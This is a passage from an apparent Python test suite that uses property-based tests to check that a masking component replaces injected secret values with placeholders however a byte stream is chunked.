                assert [host for host, _ in out.told] == ["api.example"] and server.heads == []

    run(work)


@settings(max_examples=100)
@given(st.lists(st.binary(max_size=30), max_size=6), st.integers(0, 3))
def test_a_mask_finds_a_value_wherever_the_stream_is_cut(parts: list[bytes], at: int) -> None:
    placeholders = Placeholders("s", [Injected("A", "aaaabaaaa"), Injected("B", SECRET)])
    text = b"".join([*parts[:at], SECRET.encode(), *parts[at:]])
    for size in (1, 3, 7, len(text)):
        mask = placeholders.mask("any.example")
        got = b"".join(mask.feed(text[i : i + size]) for i in range(0, len(text), size)) + mask.end()
        assert got == text.replace(b"aaaabaaaa", placeholders.variables["A"].encode()).replace(
            SECRET.encode(), placeholders.variables["B"].encode()
        )
